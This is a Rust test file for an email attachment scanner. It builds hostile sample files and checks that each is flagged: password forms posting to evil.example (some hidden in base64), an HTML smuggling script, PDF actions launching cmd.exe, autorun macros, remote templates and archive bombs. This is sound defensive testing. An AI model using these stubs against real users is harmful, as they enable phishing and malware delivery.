//! Samples of every kind, built here byte by byte or by other implementations of the formats; and hostile ones.

use super::*;
use std::io::{Cursor, Write};
use std::time::{Duration, Instant};

/// What `look` says about a file: the codes of its evidence and the targets of its links.
fn codes(bytes: &[u8], name: &str) -> Vec<String> {
    look(bytes, name, "", &mut Budget::for_one_message())
        .evidence
        .iter()
        .map(|one| one.finding.rule.to_string())
        .collect()
}

fn check(bytes: &[u8], name: &str, expected: &[&str]) -> Look {
    let seen = look(bytes, name, "", &mut Budget::for_one_message());
    let found: Vec<&str> = seen.evidence.iter().map(|one| one.finding.rule.as_ref()).collect();
    assert_eq!(found, expected, "{name}: {:?}", seen.evidence);
    seen
}

fn targets(seen: &Look) -> Vec<&str> {
    seen.links.iter().map(|link| link.target.as_str()).collect()
}

/// A ZIP file made by the `zip` crate.
fn zip_of(files: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ::zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        writer.start_file(*name, ::zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    writer.write_all(bytes).unwrap();
    writer.finish().unwrap()
}

fn gzip_of(bytes: &[u8]) -> Vec<u8> {
    let mut writer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    writer.write_all(bytes).unwrap();
    writer.finish().unwrap()
}

/// A QR code as grey pixels: `scale` pixels a module, on a page of light grey with `margin` pixels around.
fn qr(text: &str, scale: usize, margin: usize, dark: u8, light: u8) -> image::GrayImage {
    let code = qrcode::QrCode::new(text).unwrap();
    let modules = code.to_colors();
    let width = code.width();
    let side = u32::try_from(width * scale + 2 * margin).unwrap();
    image::GrayImage::from_fn(side, side, |x, y| {
        let module =
            |at: u32| (at as usize).checked_sub(margin).map(|at| at / scale).filter(|at| *at < width);
        let is_dark = match (module(x), module(y)) {
            (Some(x), Some(y)) => modules[y * width + x] == qrcode::Color::Dark,
            _ => false,
        };
        image::Luma([if is_dark { dark } else { light }])
    })
}

fn file(picture: &image::DynamicImage, format: image::ImageFormat) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    picture.write_to(&mut out, format).unwrap();
    out.into_inner()
}

fn png(picture: image::GrayImage) -> Vec<u8> {
    file(&image::DynamicImage::ImageLuma8(picture), image::ImageFormat::Png)
}

const TARGET: &str = "https://evil.example/login?u=42";

#[test]
fn a_qr_code_is_read_in_every_format_size_and_colour() {
    let grey = qr(TARGET, 6, 24, 0, 255);
    let picture = image::DynamicImage::ImageLuma8(grey);
    for format in [
        image::ImageFormat::Png,
        image::ImageFormat::Jpeg,
        image::ImageFormat::Gif,
        image::ImageFormat::WebP,
        image::ImageFormat::Bmp,
    ] {
        let picture = image::DynamicImage::ImageRgb8(picture.to_rgb8());
        let seen = check(&file(&picture, format), "scan.png", &["link-in-qr"]);
        assert_eq!(targets(&seen), [TARGET], "{format:?}");
        assert_eq!(seen.links[0].found_in, "qr");
    }
    for (scale, margin, dark, light) in
        [(3, 12, 0, 255), (4, 16, 60, 200), (8, 300, 0, 255), (40, 160, 0, 255), (6, 24, 255, 0)]
    {
        let seen = check(&png(qr(TARGET, scale, margin, dark, light)), "scan.png", &["link-in-qr"]);
        assert_eq!(targets(&seen), [TARGET], "{scale} {margin} {dark} {light}");
    }
    let clear = image::RgbaImage::from_fn(picture.width(), picture.height(), |x, y| {
        let dark = picture.to_luma8().get_pixel(x, y).0[0] < 128;
        image::Rgba([0, 0, 0, if dark { 255 } else { 0 }])
    });
    let seen = check(
        &file(&image::DynamicImage::ImageRgba8(clear), image::ImageFormat::Png),
        "clear.png",
        &["link-in-qr"],
    );
    assert_eq!(targets(&seen), [TARGET]);
}

#[test]
fn a_turned_code_on_a_busy_page_is_read() {
    let code = qr(TARGET, 6, 24, 20, 235);
    let side = code.width();
    for degrees in [0.0_f32, 7.0, 90.0, 180.0] {
        let (sin, cos) = degrees.to_radians().sin_cos();
        let page = image::GrayImage::from_fn(900, 700, |x, y| {
            // Lines of something like writing on the left, the turned code on the right.
            let (dx, dy) = (x as f32 - 600.0, y as f32 - 350.0);
            let half = side as f32 / 2.0;
            let (u, v) = (dx * cos + dy * sin + half, dy * cos - dx * sin + half);
            let inside = |at: f32| at >= 0.0 && at < side as f32;
            if inside(u) && inside(v) {
                return *code.get_pixel(u as u32, v as u32);
            }
            let ink = x < 400 && y % 18 < 10 && (x / 3 * 7 + y / 18 * 13) % 5 < 2;
            image::Luma([if ink { 30 } else { 240 }])
        });
        let bytes = file(
            &image::DynamicImage::ImageRgb8(image::DynamicImage::ImageLuma8(page).to_rgb8()),
            image::ImageFormat::Jpeg,
        );
        let seen = look(&bytes, "letter.jpg", "", &mut Budget::for_one_message());
        assert_eq!(targets(&seen), [TARGET], "{degrees}");
    }
}

#[test]
fn what_a_qr_code_holds_is_told() {
    check(
        &png(qr("BCD\n002\n1\nSCT\n\nName\nDE89370400440532013000\nEUR12", 5, 20, 0, 255)),
        "pay.png",
        &["qr-payment"],
    );
    check(&png(qr("WIFI:S:home;T:WPA;P:x;;", 5, 20, 0, 255)), "wifi.png", &["qr-other"]);
    let seen = check(&png(qr("EVIL.EXAMPLE/A", 5, 20, 0, 255)), "bare.png", &["link-in-qr"]);
    assert_eq!(targets(&seen), ["http://EVIL.EXAMPLE/A"]);
}

#[test]
fn ordinary_and_odd_pictures_say_nothing() {
    let noise = image::GrayImage::from_fn(300, 300, |x, y| {
        image::Luma([u8::try_from(((x * 7919) ^ (y * 104_729)) % 251).unwrap()])
    });
    check(&png(noise), "noise.png", &[]);
    check(&png(image::GrayImage::new(1, 1)), "pixel.gif", &[]);
    check(b"\x89PNG\r\n\x1a\nbroken", "broken.png", &[]);
    // A header that claims 100,000 × 100,000 pixels.
    let mut huge = png(image::GrayImage::new(64, 64));
    huge[16..24].copy_from_slice(&[0, 1, 0x86, 0xa0, 0, 1, 0x86, 0xa0]);
    let started = Instant::now();
    codes(&huge, "huge.png");
    assert!(started.elapsed() < Duration::from_secs(2));
    let wide = image::GrayImage::new(4_000, 4_000);
    check(&png(wide), "wide.png", &["image-too-large"]);
}

#[test]
fn pictures_share_one_budget_of_pixels() {
    let picture = qr(TARGET, 8, 40, 0, 255);
    let area = usize::try_from(picture.width() * picture.height()).unwrap();
    let bytes = png(picture);
    let mut budget = Budget { pixels: area * 3 + 1, ..Budget::for_one_message() };
    let read =
        (0..5).map(|_| look(&bytes, "a.png", "", &mut budget)).filter(|seen| !seen.links.is_empty()).count();
    assert_eq!(read, 3);
}

#[test]
fn programs_scripts_and_shortcuts_are_known_by_content_and_by_name() {
    check(b"MZ\x90\0\x03\0\0\0\x04\0", "holiday.jpg", &["attachment-type-differs", "attachment-program"]);
    check(b"WScript.Echo(1)", "note.vbs", &["attachment-script"]);
    check(b"WScript.Echo(1)", "note.pdf.vbs", &["attachment-script", "attachment-double-extension"]);
    let seen = check(
        b"[InternetShortcut]\r\nURL=file://evil.example/share\r\n",
        "read me.url",
        &["attachment-web-shortcut", "attachment-shortcut"],
    );
    assert_eq!(targets(&seen), ["file://evil.example/share"]);
    check(b"full address:s:evil.example\r\n", "remote.rdp", &["attachment-remote-desktop"]);
    check(b"ITSF\x03\0\0\0", "help.dat", &["attachment-help-file"]);
    let mut iso = vec![0; 0x9000];
    iso[0x8000..0x8006].copy_from_slice(b"\x01CD001");
    check(&iso, "backup.dat", &["attachment-disk-image"]);
    check(b"plain text", "readme.txt", &[]);
    check(b"", "empty", &[]);
}

#[test]
fn archives_are_listed_and_looked_into() {
    let seen = check(
        &zip_of(&[("a.txt", b"hello"), ("invoice.pdf.exe", b"MZ\x90\0\x03\0\0\0")]),
        "a.zip",
        &["attachment-program", "attachment-double-extension"],
    );
    assert_eq!(seen.listing, ["a.txt", "invoice.pdf.exe"]);
    assert_eq!(seen.detected_type.as_deref(), Some("application/zip"));
    check(
        &zip_of(&[("photo.jpg", b"MZ\x90\0\x03\0\0\0 program")]),
        "a.zip",
        &["attachment-type-differs", "attachment-program"],
    );
    let page = b"<html><form action='https://evil.example/f'><input type=password></form></html>";
    let inner = zip_of(&[("page.html", page)]);
    let seen = check(
        &zip_of(&[("inner.zip", &inner)]),
        "outer.zip",
        &["html-attachment", "html-attachment-password", "html-attachment-form"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/f"]);
    check(
        &gzip_of(page),
        "page.html.gz",
        &["html-attachment", "html-attachment-password", "html-attachment-form"],
    );
    let mut deep = inner;
    for level in 0..6 {
        deep = zip_of(&[(&format!("{level}.zip"), &deep)]);
    }
    check(&deep, "deep.zip", &["archive-nested"]);
}

#[test]
fn tar_rar_and_cabinet_are_listed() {
    let mut tar = vec![0; 512];
    tar[..9].copy_from_slice(b"start.bat");
    tar[124..136].copy_from_slice(b"00000000005\0");
    tar[156] = b'0';
    tar[257..262].copy_from_slice(b"ustar");
    tar.extend([b'x'; 512]);
    let seen = check(&tar, "a.tar", &["attachment-script"]);
    assert_eq!(seen.listing, ["start.bat"]);
    check(&gzip_of(&tar), "a.tgz", &["attachment-script"]);

    let title = b"pay.js";
    let mut rar = b"Rar!\x1a\x07\x01\0".to_vec();
    // Flags, attributes and so on: one byte each; then the name.
    let body = [&[2_u8, 0, 0, 5, 0, 0, 0, 6][..], title].concat();
    rar.extend([0; 4]);
    rar.push(u8::try_from(body.len()).unwrap());
    rar.extend(&body);
    let seen = check(&rar, "a.rar", &["attachment-script"]);
    assert_eq!(seen.listing, ["pay.js"]);

    let mut sealed = b"Rar!\x1a\x07\x01\0".to_vec();
    sealed.extend([0, 0, 0, 0, 2, 4, 0]);
    check(&sealed, "b.rar", &["archive-encrypted"]);

    let mut cabinet = b"MSCF\0\0\0\0".to_vec();
    cabinet.resize(44, 0);
    cabinet[16] = 44;
    cabinet[28] = 1;
    cabinet.extend([0; 16]);
    cabinet.extend(b"run.lnk\0");
    let seen = check(&cabinet, "a.cab", &["attachment-shortcut"]);
    assert_eq!(seen.listing, ["run.lnk"]);
}

#[test]
fn encrypted_archives_are_told_apart() {
    let mut locked = zip_of(&[("secret.doc", b"hello hello hello")]);
    let central = bytes::find(&locked, b"PK\x01\x02").unwrap();
    locked[6] |= 1;
    locked[central + 8] |= 1;
    let seen = check(&locked, "a.zip", &["archive-encrypted"]);
    assert_eq!(seen.listing, ["secret.doc"]);
    let mut seven = b"7z\xbc\xaf\x27\x1c\0\x04\0\0\0\0".to_vec();
    seven.resize(32, 0);
    check(&seven, "a.7z", &["archive-unlisted"]);
    seven.extend([0x17, 0x06, 0x06, 0xf1, 0x07, 0x01]);
    check(&seven, "a.7z", &["archive-encrypted"]);
}

#[test]
fn archive_bombs_cost_a_bounded_amount_and_are_told() {
    let zeros = vec![b' '; 9 << 20];
    let started = Instant::now();
    check(&gzip_of(&zeros), "bomb.gz", &["archive-bomb"]);
    // A directory that claims 4 GiB.
    let claim = |size: u32| {
        let mut bytes = zip_of(&[("zeros.html", &[&b"<html>"[..], &zeros].concat())]);
        let central = bytes::find(&bytes, b"PK\x01\x02").unwrap();
        bytes[central + 24..central + 28].copy_from_slice(&size.to_le_bytes());
        bytes
    };
    let mut budget = Budget::for_one_message();
    let seen = look(&claim(u32::MAX - 1), "bomb.zip", "", &mut budget);
    assert_eq!(seen.evidence[0].finding.rule, "archive-bomb");
    assert_eq!(budget.bytes, Budget::for_one_message().bytes, "nothing was unpacked");
    // The same bomb with a size that lies.
    check(&claim(5_000), "bomb.zip", &["archive-bomb"]);
    assert!(started.elapsed() < Duration::from_secs(20), "{:?}", started.elapsed());
}

#[test]
fn the_files_of_an_archive_share_one_budget() {
    let mut budget = Budget { bytes: 300 << 10, ..Budget::for_one_message() };
    let letters: String =
        (0..6_000_u32).map(|number| format!("{} ", number.wrapping_mul(2_654_435_761))).collect();
    let page = format!("<html>{letters}");
    let names: Vec<String> = (0..20).map(|number| format!("{number}.html")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), page.as_bytes())).collect();
    let seen = look(&zip_of(&files), "many.zip", "", &mut budget);
    assert_eq!((budget.bytes, seen.listing.len()), (0, 20));
    assert!(seen.evidence.iter().any(|one| one.finding.rule == "attachment-not-read"));
}

/// A PDF of numbered objects; `bodies` are written as they are.
fn pdf_of(bodies: &[Vec<u8>]) -> Vec<u8> {
    let mut out = b"%PDF-1.5\n".to_vec();
    for (number, body) in bodies.iter().enumerate() {
        out.extend(format!("{} 0 obj\n", number + 1).into_bytes());
        out.extend(body);
        out.extend(b"\nendobj\n");
    }
    out.extend(b"trailer << /Root 1 0 R >>\n%%EOF\n");
    out
}

fn stream_of(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let packed = zlib(bytes);
    let mut out =
        format!("<< {dictionary} /Filter /FlateDecode /Length {} >>\nstream\n", packed.len()).into_bytes();
    out.extend(&packed);
    out.extend(b"\nendstream");
    out
}

#[test]
fn pdf_links_and_words_are_read() {
    let words = stream_of("", b"BT /F1 12 Tf 72 700 Td (Your invoice is \\(not\\) paid.) Tj 0 -14 Td [(Op) 20 (en) -300 (it)] TJ ET");
    let plain = pdf_of(&[
        b"<< /Type /Catalog >>".to_vec(),
        b"<< /Type /Page /Contents 4 0 R /Annots [3 0 R] >>".to_vec(),
        b"<< /Type /Annot /A << /S /URI /URI (https://evil.example/a\\(1\\)) >> >>".to_vec(),
        words.clone(),
    ]);
    let seen = check(&plain, "a.pdf", &["pdf-mostly-link"]);
    assert_eq!(targets(&seen), ["https://evil.example/a(1)"]);
    assert_eq!(seen.text, "Your invoice is (not) paid.\nOpen it");

    // The same annotation inside an object stream, its address in hexadecimal and its names with escapes.
    let inner = b"9 0 << /A << /S /U#52I /U#52I <68747470733a2f2f6576696c2e6578616d706c652f62> >> >>";
    let packed = pdf_of(&[
        b"<< /Type /Catalog >>".to_vec(),
        b"<< /Type /Page >>".to_vec(),
        stream_of("/Type /ObjStm /N 1 /First 4", inner),
        words,
    ]);
    let seen = look(&packed, "a.pdf", "", &mut Budget::for_one_message());
    assert_eq!(targets(&seen), ["https://evil.example/b"]);
}

#[test]
fn words_in_fonts_with_their_own_codes_are_read() {
    let table = b"/CIDInit 1 beginbfchar <0001> <0048> endbfchar 1 beginbfrange <0002> <0003> <0069> endbfrange 1 beginbfrange <0010> <0011> [<0021> <003F>] endbfrange";
    let file = pdf_of(&[
        b"<< /Type /Catalog >>".to_vec(),
        b"<< /Type /Page /Resources << /Font << /F7 3 0 R >> >> >>".to_vec(),
        b"<< /Type /Font /ToUnicode 4 0 R >>".to_vec(),
        stream_of("", table),
        stream_of("", b"BT /F7 9 Tf <0001000200030010> Tj <0011> Tj ET"),
    ]);
    assert_eq!(check(&file, "a.pdf", &[]).text, "Hij!?");
}

#[test]
fn pdf_actions_are_told() {
    let of = |catalog: &str| pdf_of(&[catalog.as_bytes().to_vec()]);
    check(
        &of("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>"),
        "a.pdf",
        &["pdf-script"],
    );
    check(&of("<< /Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >> >>"), "a.pdf", &["pdf-launch"]);
    check(&of("<< /OpenAction << /S /URI /URI (https://evil.example) >> >>"), "a.pdf", &["pdf-opens-link"]);
    check(&of("<< /OpenAction [3 0 R /Fit] >>"), "a.pdf", &[]);
    check(
        &of("<< /Type /Filespec /EF << /F 5 0 R >> >> << /Type /EmbeddedFile >>"),
        "a.pdf",
        &["pdf-embedded-file"],
    );
    let seen = check(
        &of("<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/s) >> >>"),
        "a.pdf",
        &["pdf-form-submits"],
    );
    assert!(seen.evidence[0].finding.why.contains("SubmitForm"));
    let mut locked = of("<< /Type /Catalog >>");
    locked.extend(b"trailer << /Encrypt 9 0 R >>");
    check(&locked, "a.pdf", &["pdf-encrypted"]);
}

#[test]
fn a_qr_code_drawn_in_a_pdf_is_read() {
    let grey = qr(TARGET, 5, 20, 0, 255);
    let side = grey.width();
    let dictionary =
        format!("/Subtype /Image /Width {side} /Height {side} /BitsPerComponent 8 /ColorSpace /DeviceGray");
    let drawn = pdf_of(&[b"<< /Type /Page >>".to_vec(), stream_of(&dictionary, grey.as_raw())]);
    assert_eq!(targets(&look(&drawn, "a.pdf", "", &mut Budget::for_one_message())), [TARGET]);
    let jpeg = file(&image::DynamicImage::ImageLuma8(grey), image::ImageFormat::Jpeg);
    let mut body = format!(
        "<< /Subtype /Image /Width {side} /Height {side} /Filter /DCTDecode /Length {} >>\nstream\n",
        jpeg.len()
    )
    .into_bytes();
    body.extend(&jpeg);
    body.extend(b"\nendstream");
    assert_eq!(targets(&look(&pdf_of(&[body]), "a.pdf", "", &mut Budget::for_one_message())), [TARGET]);
}

#[test]
fn a_pdf_bomb_costs_a_bounded_amount_and_is_told() {
    let inner = zlib(&vec![b' '; 5 << 20]);
    let twice = {
        let packed = zlib(&inner);
        let mut out = format!("<< /Filter [/FlateDecode /FlateDecode] /Length {} >>\nstream\n", packed.len())
            .into_bytes();
        out.extend(&packed);
        out.extend(b"\nendstream");
        out
    };
    let bodies: Vec<Vec<u8>> = (0..60).map(|_| twice.clone()).collect();
    let started = Instant::now();
    let seen = check(&pdf_of(&bodies), "a.pdf", &["pdf-bomb", "attachment-not-read"]);
    assert!(seen.text.is_empty());
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
    check(&b"1 0 obj ".repeat(200_000).into_iter().collect::<Vec<_>>(), "a.txt", &[]);
    let many = [b"%PDF-1.4 ".to_vec(), b"1 0 obj <</Type /ObjStm".repeat(50_000)].concat();
    let started = Instant::now();
    assert!(codes(&many, "a.pdf").contains(&"attachment-not-read".to_owned()));
    assert!(started.elapsed() < Duration::from_secs(10), "{:?}", started.elapsed());
}

#[test]
fn office_documents_are_looked_into() {
    let rels = br#"<Relationships><Relationship Id="1" Type="http://x/hyperlink" Target="https://evil.example/a?b=1&amp;c=2" TargetMode="External"/><Relationship Id="2" Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#;
    let text = b"<w:document><w:p><w:t>Enable</w:t><w:t> content &amp; go</w:t></w:p><w:p><w:t>now</w:t></w:p></w:document>";
    let mut macros = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    macros.create_storage("/VBA").unwrap();
    macros.create_stream("/VBA/ThisDocument").unwrap().write_all(b"Sub Document_Open()").unwrap();
    let project = macros.into_inner().into_inner();
    let files: [(&str, &[u8]); 4] = [
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", text),
        ("word/_rels/document.xml.rels", rels),
        ("word/vbaProject.bin", &project),
    ];
    let seen = check(&zip_of(&files), "a.docm", &["attachment-remote-template", "attachment-macro-autorun"]);
    assert_eq!(targets(&seen), ["https://evil.example/a?b=1&c=2", "https://evil.example/t.dotm"]);
    assert_eq!(seen.text, "Enable content & go\nnow");
    assert!(seen.listing.is_empty());
    assert_eq!(
        seen.detected_type.as_deref(),
        Some("application/vnd.openxmlformats-officedocument.wordprocessingml.document")
    );
    check(&zip_of(&files[..2]), "a.docx", &[]);
    check(
        &zip_of(&[("[Content_Types].xml", b""), ("xl/macrosheets/sheet1.xml", b"<x/>")]),
        "a.xlsm",
        &["attachment-excel4-macro"],
    );
}

#[test]
fn old_office_documents_are_looked_into() {
    let compound = |streams: &[(&str, &[u8])]| {
        let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
        for (path, bytes) in streams {
            if let Some((folder, _)) = path.rsplit_once('/').filter(|(folder, _)| !folder.is_empty()) {
                file.create_storage_all(folder).unwrap();
            }
            file.create_stream(path).unwrap().write_all(bytes).unwrap();
        }
        file.into_inner().into_inner()
    };
    let plain = check(&compound(&[("/WordDocument", &[0; 600])]), "a.doc", &[]);
    assert_eq!(plain.detected_type.as_deref(), Some("application/msword"));
    check(
        &compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub AutoOpen()")]),
        "a.doc",
        &["attachment-macro-autorun"],
    );
    check(
        &compound(&[("/WordDocument", &[0; 64]), ("/Macros/VBA/Module1", b"Sub Tidy()")]),
        "a.doc",
        &["attachment-macro"],
    );
    check(&compound(&[("/EncryptedPackage", &[1; 64])]), "a.docx", &["attachment-encrypted"]);
    check(
        &compound(&[("/Workbook", &[0x85, 0, 8, 0, 0, 0, 0, 0, 0, 1, 0, 0])]),
        "a.xls",
        &["attachment-excel4-macro"],
    );
    check(&compound(&[("/Workbook", &[0x2f, 0, 2, 0, 0, 0])]), "a.xls", &["attachment-encrypted"]);
    check(
        &compound(&[("/WordDocument", &[0; 64]), ("/ObjectPool/_1/Equation Native", &[0; 64])]),
        "a.doc",
        &["attachment-equation-object"],
    );
    check(&compound(&[("/__properties_version1.0", &[0; 64])]), "a.msg", &["attachment-outlook-item"]);
}

#[test]
fn rich_text_is_looked_into() {
    let seen = check(
        br#"{\rtf1 {\field{\*\fldinst HYPERLINK "https://evil.example/r"}{\fldrslt click}}}"#,
        "a.rtf",
        &[],
    );
    assert_eq!((targets(&seen), seen.text.as_str()), (vec!["https://evil.example/r"], "click"));
    check(
        br"{\rtf1 {\object\objocx{\*\objdata 01050000 4571756174 696f6e2e33 }}}",
        "a.doc",
        &["attachment-equation-object"],
    );
    check(br"{\rtf1 {\object{\*\objdata 0105}}}", "a.rtf", &["attachment-embedded-object"]);
    let seen =
        check(br"{\rtf1{\*\template https://evil.example/t}}", "a.rtf", &["attachment-remote-template"]);
    assert_eq!(targets(&seen), ["https://evil.example/t"]);
}

#[test]
fn web_pages_are_looked_into() {
    check(b"<html><p>Hello</p></html>", "a.html", &["html-attachment"]);
    let seen = check(
        b"<html><form action=https://evil.example/p><input type=password name=p></form>",
        "login.htm",
        &["html-attachment", "html-attachment-password", "html-attachment-form"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/p"]);
    let seen = check(
        b"<html><meta http-equiv=refresh content='0;url=https://evil.example/m'>",
        "a.html",
        &["html-attachment", "html-attachment-redirect"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/m"]);
    let seen = check(
        b"<script>window.location.href = 'https://evil.example/j'</script>",
        "a.html",
        &["html-attachment", "html-attachment-script", "html-attachment-redirect"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/j"]);
    let smuggling = b"<html><script>var d=atob('UEsDBA==');var b=new Blob([d]);a.href=URL.createObjectURL(b);a.download='x.zip';a.click()</script>";
    check(smuggling, "a.html", &["html-attachment", "html-attachment-script", "html-smuggling"]);
}

#[test]
fn what_a_page_hides_in_base64_or_percent_signs_is_read() {
    // <form action="https://evil.example/hidden"><input type="password"></form>
    let hidden = "PGZvcm0gYWN0aW9uPSJodHRwczovL2V2aWwuZXhhbXBsZS9oaWRkZW4iPjxpbnB1dCB0eXBlPSJwYXNzd29yZCI+PC9mb3JtPg==";
    let page = format!("<html><script>document.write(atob(\"{hidden}\"))</script>");
    let seen = look(page.as_bytes(), "a.html", "", &mut Budget::for_one_message());
    assert_eq!(targets(&seen), ["https://evil.example/hidden"]);
    let found = codes(page.as_bytes(), "a.html");
    assert!(
        found.contains(&"html-obfuscated".to_owned())
            && found.contains(&"html-attachment-password".to_owned()),
        "{found:?}"
    );
    let page = "<html><script>document.write(unescape('%3Cmeta http-equiv=refresh content=%220;url=https://evil.example/percent%22%3E'))</script>";
    let seen = look(page.as_bytes(), "a.html", "", &mut Budget::for_one_message());
    assert!(targets(&seen).contains(&"https://evil.example/percent"), "{seen:?}");
}

#[test]
fn svg_pictures_with_scripts_are_told() {
    check(b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='3'/></svg>", "a.svg", &[]);
    let seen = check(
        b"<?xml version='1.0'?><svg><script>location.href='https://evil.example/s'</script></svg>",
        "a.svg",
        &["svg-script", "html-attachment-script", "html-attachment-redirect"],
    );
    assert_eq!(targets(&seen), ["https://evil.example/s"]);
    let seen = check(b"<svg><a href=\"https://evil.example/?a=1&amp;b=2\"><rect/></a></svg>", "a.svg", &[]);
    assert_eq!(targets(&seen), ["https://evil.example/?a=1&b=2"]);
}

#[test]
fn invitations_are_looked_into() {
    let invitation = "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nORGANIZER;CN=\"Pay: Desk\":mailto:o@evil.example\r\nSUMMARY:Salary review\r\nLOCATION:https://evil.example/lo\r\n cation\r\nDESCRIPTION:Please read\\n\\nhttps://evil.example/d\\, soon\r\nURL:https://evil.example/u\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n";
    let seen = check(invitation.as_bytes(), "invite.ics", &["calendar-link"]);
    assert_eq!(
        targets(&seen),
        ["https://evil.example/location", "https://evil.example/d", "https://evil.example/u"]
    );
    assert!(seen.links.iter().all(|link| link.found_in == "calendar"));
    assert!(seen.evidence[0].finding.why.contains("o@evil.example") && seen.text.contains("Salary review"));
    check(b"BEGIN:VCALENDAR\nSUMMARY:Lunch\nEND:VCALENDAR", "lunch.ics", &["calendar-invite"]);
}

#[test]
fn notebooks_with_packed_files_are_told() {
    let mut notebook = b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3".to_vec();
    notebook.extend([0; 64]);
    notebook.extend(b"\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac");
    notebook.extend(10_u64.to_le_bytes());
    notebook.extend([0; 12]);
    notebook.extend(b"MZ\x90\0\x03\0\0\0\x04\0");
    check(&notebook, "a.one", &["attachment-program", "attachment-onenote"]);
}

#[test]
fn every_rule_is_told_apart_and_speaks_plainly() {
    let mut known = std::collections::BTreeSet::new();
    for rule in &RULES {
        assert!(known.insert(rule.code), "{} twice", rule.code);
        assert!(rule.plain.ends_with('.') && rule.plain.contains("{name}"), "{}", rule.code);
        assert!((-50..=50).contains(&rule.weight), "{}", rule.code);
        let words = rule.plain.to_lowercase();
        for jargon in ["exploit", "payload", "malware", "obfuscat", "vba", "uri", "decompress", "mime", "cve"]
        {
            assert!(!words.contains(jargon), "{}: {jargon}", rule.code);
        }
    }
    // Every code that the folder's sources speak of has a row.
    let sources = [
        include_str!("mod.rs"),
        include_str!("names.rs"),
        include_str!("office.rs"),
        include_str!("page.rs"),
        include_str!("calendar.rs"),
        include_str!("picture.rs"),
        include_str!("pdf/mod.rs"),
        include_str!("archive/mod.rs"),
        include_str!("archive/zip.rs"),
        include_str!("archive/packed.rs"),
        include_str!("archive/sealed.rs"),
    ];
    let starts =
        ["attachment-", "archive-", "html-", "svg-", "pdf-", "qr-", "link-in-", "image-", "calendar-"];
    for word in sources.iter().flat_map(|source| source.split('"')) {
        let code = word.chars().all(|c| c.is_ascii_lowercase() || c == '-' || c == '4');
        if code && starts.iter().any(|start| word.starts_with(start)) {
            assert!(known.contains(word), "{word} has no row");
        }
    }
}

#[test]
fn the_budget_is_one_for_the_whole_message() {
    let mut budget = Budget { items: 3, ..Budget::for_one_message() };
    let seen: Vec<bool> = (0..5)
        .map(|_| {
            look(b"x", "a.txt", "", &mut budget)
                .evidence
                .iter()
                .any(|one| one.finding.rule == "attachment-not-read")
        })
        .collect();
    assert_eq!(seen, [false, false, false, true, true]);
}

/// Starts of files that a random rest is put behind.
const STARTS: [&[u8]; 16] = [
    b"",
    b"PK\x03\x04",
    b"PK\x05\x06",
    b"%PDF-1.4\n1 0 obj<</Type/ObjStm/N 9/First 9/Filter/FlateDecode>>stream\n",
    b"%PDF-1.4\n1 0 obj<</Length 9>>stream\nBT (",
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    b"\x1f\x8b\x08\0",
    b"Rar!\x1a\x07\x01\0",
    b"Rar!\x1a\x07\0",
    b"7z\xbc\xaf\x27\x1c",
    b"MSCF\0\0\0\0",
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR",
    b"\xff\xd8\xff\xe0",
    b"{\\rtf1 ",
    b"<html><script>",
    b"BEGIN:VCALENDAR\n",
];

proptest::proptest! {
    #[test]
    fn any_bytes_are_read_without_panic(start in 0..STARTS.len(), rest in proptest::collection::vec(proptest::num::u8::ANY, 0..3000), name in "\\PC{0,20}") {
        let bytes = [STARTS[start], &rest].concat();
        let mut budget = Budget::for_one_message();
        let seen = look(&bytes, &name, "text/calendar", &mut budget);
        proptest::prop_assert!(seen.text.len() <= budget.text && seen.links.len() <= budget.links);
    }

    #[test]
    fn a_file_with_a_few_changed_bytes_is_read_without_panic(at in proptest::collection::vec((0..4000_usize, proptest::num::u8::ANY), 1..20), which in 0..3_usize) {
        let mut bytes = match which {
            0 => zip_of(&[("a.html", b"<html><p>x</p>"), ("b/c.txt", &[b'x'; 500])]),
            1 => pdf_of(&[b"<< /Type /Page /Annots [<< /URI (https://a.example) >>] >>".to_vec(), stream_of("", b"BT (hello) Tj ET")]),
            _ => png(qr("https://a.example", 3, 12, 0, 255)),
        };
        let length = bytes.len();
        for (place, value) in at {
            bytes[place % length] = value;
        }
        look(&bytes, "a", "", &mut Budget::for_one_message());
    }
}
